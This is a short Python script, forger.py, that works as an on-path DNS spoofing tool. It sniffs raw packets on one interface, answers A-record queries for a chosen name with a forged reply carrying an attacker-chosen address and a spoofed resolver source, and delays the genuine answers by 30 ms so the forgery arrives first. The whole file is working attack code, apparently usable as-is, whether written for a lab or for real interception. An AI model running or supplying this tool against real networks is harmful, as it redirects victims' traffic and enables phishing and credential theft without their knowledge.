#!/usr/bin/python3
"""Somebody on the path who is faster than the resolver.

    forger.py QUESTIONS ANSWERS NAME ADDRESS

Answers the questions for NAME that come in by the interface QUESTIONS, whomever they are for, with
ADDRESS; and sends every true answer, which comes in by ANSWERS, 30 ms after it has come. A filter
has to drop the true ones, which would go on by themselves.
"""
import collections
import select
import socket
import struct
import sys
import time

k_delay_sec = 0.03
k_udp = 17
k_port = 53
k_type_a = 1


def listen(interface):
    """Whole IP packets that come in there."""
    out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    out.bind((interface, 0x0800))
    return out


def receive(sock):
    """(source, source port, destination, destination port, payload) of UDP, or None."""
    packet, place = sock.recvfrom(65_535)
    size = (packet[0] & 15) * 4
    if packet[9] != k_udp or place[2] == socket.PACKET_OUTGOING:
        return None
    ports = struct.unpack("!HH", packet[size:size + 4])
    length, = struct.unpack("!H", packet[size + 4:size + 6])
    return (packet[12:16], ports[0], packet[16:20], ports[1], packet[size + 8:size + length])


def packet_of(source, source_port, destination, destination_port, payload):
    """The kernel fills in the checksum of IP; UDP needs none."""
    udp = struct.pack("!HHHH", source_port, destination_port, 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 60, k_udp, 0, source,
                       destination) + udp


def forged(question, name, address):
    """The answer to a question for the address of `name`; None: it is for something else."""
    wanted = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    end = 12 + len(wanted)
    asked = question[12:end + 4]
    if asked.lower() != wanted + struct.pack("!HH", k_type_a, 1):
        return None
    return (question[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + asked
            + struct.pack("!HHHIH", 0xC00C, k_type_a, 1, 60, 4) + socket.inet_aton(address))


def main(questions_in, answers_in, name, address):
    questions, answers = listen(questions_in), listen(answers_in)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    waiting = collections.deque()  # (when to send, packet), in order
    print("listening", flush=True)
    while True:
        left = max(0, waiting[0][0] - time.monotonic()) if waiting else None
        ready, _, _ = select.select([questions, answers], [], [], left)
        while waiting and waiting[0][0] <= time.monotonic():
            packet = waiting.popleft()[1]
            sender.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
        for sock in ready:
            got = receive(sock)
            if sock is answers and got and got[1] == k_port:
                waiting.append((time.monotonic() + k_delay_sec, packet_of(*got)))
            elif sock is questions and got and got[3] == k_port:
                source, source_port, destination, _, question = got
                lie = forged(question, name, address)
                if lie:
                    sender.sendto(packet_of(destination, k_port, source, source_port, lie),
                                  (socket.inet_ntoa(source), 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
